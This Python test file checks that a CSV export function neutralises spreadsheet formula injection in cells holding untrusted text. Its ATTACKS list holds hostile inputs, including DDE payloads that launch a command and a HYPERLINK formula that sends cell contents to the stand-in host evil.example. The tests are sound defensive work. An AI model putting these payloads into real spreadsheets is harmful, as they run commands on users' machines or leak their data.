"""A table of what strangers wrote is safe to open, whatever parts its columns."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from bot.services.export.table import csv_line
from tests.cases import in_turn

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
ATTACKS = [
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    *(f"{white}=1+1" for white in ("\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u3000", '"')),
    *("\ttext", "\rtext", "\ntext"),
    *(';"\ttext', ';""\ttext', 'a\n"\ttext', 'a\t"\rtext'),
    *("a;=1+1", "a; =1+1", 'a;"=1+1"', "a;\t@x", "a\n=1+1", "a\t=1+1", "a\n\n\n-1", ";;;=1"),
    'a;""=HYPERLINK("https://evil.example/?"&A1)',
]


def _cells(line: str, delimiter: str) -> list[str]:
    reader = csv.reader(io.StringIO(line, newline=""), delimiter=delimiter)
    return [cell for row in reader for cell in row]


def _is_formula(cell: str) -> bool:
    begins = cell.lstrip().lstrip('"\uff02').lstrip()
    return begins.startswith(tuple(SIGNS)) or cell.startswith(("\t", "\r", "\n"))


@in_turn("delimiter", [",", ";", "\t"])
@in_turn("attack", ATTACKS)
@in_turn("before", [[], ["1"]])
def test_no_cell_is_a_formula(attack: str, delimiter: str, before: list[str]) -> None:
    cells = _cells(csv_line([*before, attack, "2"]), delimiter)
    assert [cell for cell in cells if _is_formula(cell)] == []


@given(text=st.text(alphabet=st.sampled_from(f'{SIGNS};,"\t\r\n a1'), max_size=12))
def test_nor_whatever_else_somebody_writes(text: str) -> None:
    for delimiter in (",", ";", "\t"):
        cells = _cells(csv_line(["1", text, "2"]), delimiter)
        assert [cell for cell in cells if _is_formula(cell)] == []


@in_turn("text", ["a", "a-b", "1+1", "x@y.example", "a; b", "a\nb", "", "\u00e4="])
def test_all_else_stays_as_it_was_written(text: str) -> None:
    assert _cells(csv_line(["1", text]), ",")[1] == text
